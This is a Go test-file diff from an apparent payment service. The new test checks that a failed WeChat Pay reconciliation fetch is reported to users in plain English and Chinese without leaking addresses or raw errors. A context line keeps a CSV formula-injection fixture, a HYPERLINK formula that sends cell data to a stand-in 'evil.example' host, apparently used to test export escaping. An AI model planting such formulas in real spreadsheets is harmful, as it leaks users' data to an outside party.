@@ -6,6 +6,7 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"net/http"
+	"net/url"
 	"regexp"
 	"strconv"
 	"strings"
@@ -15,6 +16,8 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/issuer-dev/issuer/internal/excelcsv"
+	"github.com/issuer-dev/issuer/ops"
+	"github.com/issuer-dev/issuer/wxpay"
 )
 
 const formulaName = `=HYPERLINK("http://evil.example/?x="&A2,"Click")`
@@ -277,4 +280,40 @@ func TestUploadQuotas(t *testing.T) {
 	require.Equal(t, http.StatusSeeOther, b.post(t, otto, "/upload/"+bigTok+"/drop", nil, nil).Status)
 	a = b.upload(t, ada, "/api/v1/batches", map[string]string{"stock": "S1"}, big, nil)
 	require.Equal(t, http.StatusCreated, a.Status, a.Body)
+}
+
+// A failed fetch of flow files is told in plain words, on the page and in
+// the API; the error itself (addresses, Go's wording) is in the log only.
+func TestReconcileErrorsInPlainWords(t *testing.T) {
+	t.Parallel()
+	b := setup(t, withSim)
+	// WeChat Pay cannot be reached: a port nothing listens on.
+	b.svc.WX = func() (ops.WXClient, error) {
+		o := b.sim.Keys.ClientOptions("http://127.0.0.1:1")
+		o.BackupBaseURL = ""
+		return wxpay.New(o)
+	}
+	otto := b.login(t, "otto")
+	for lang, want := range map[string]string{"en": "WeChat Pay could not be reached", "zh": "无法连接微信支付"} {
+		a := b.post(t, otto, "/reconciliation/fetch?lang="+lang, url.Values{"stock": {simStock}}, nil)
+		require.Equal(t, http.StatusBadGateway, a.Status, a.Body)
+		require.Contains(t, a.Body, want)
+		for _, raw := range []string{"127.0.0.1", "dial tcp", "wxpay:", "connection refused"} {
+			require.NotContains(t, a.Body, raw, lang)
+		}
+	}
+	a := b.postJSON(t, nil, "/api/v1/reconcile?lang=en", map[string]string{"stock": simStock}, bearer(b.token(t, "otto")))
+	require.Equal(t, http.StatusBadGateway, a.Status, a.Body)
+	var sum struct {
+		Error   string `json:"error"`
+		Results []struct {
+			Error string `json:"error"`
+		} `json:"results"`
+	}
+	a.JSON(t, &sum)
+	require.Contains(t, sum.Error, "WeChat Pay could not be reached")
+	require.NotEmpty(t, sum.Results)
+	for _, raw := range []string{"127.0.0.1", "dial tcp", "wxpay:"} {
+		require.NotContains(t, a.Body, raw)
+	}
 }
